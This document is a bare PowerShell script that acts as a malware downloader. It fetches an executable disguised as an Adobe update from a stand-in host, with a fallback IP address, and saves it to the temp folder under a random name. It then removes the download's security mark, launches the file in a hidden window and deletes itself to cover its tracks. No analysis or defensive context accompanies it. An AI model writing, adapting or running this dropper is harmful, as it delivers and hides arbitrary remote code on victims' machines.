param([string]$u = 'http://cdn-update.invalid/dl/AdobeUpd.exe')
$dst = Join-Path $env:TEMP ('AdobeUpd' + (Get-Random -Minimum 100 -Maximum 999) + '.exe')
try {
    Invoke-WebRequest -Uri $u -OutFile $dst -UseBasicParsing -TimeoutSec 30
} catch {
    (New-Object Net.WebClient).DownloadFile('http://198.51.100.61/AdobeUpd.exe', $dst)
}
if (Test-Path $dst) {
    Unblock-File -Path $dst
    Start-Process -FilePath $dst -WindowStyle Hidden
    Start-Sleep -Seconds 5
    Remove-Item -Path $MyInvocation.MyCommand.Path -Force
}
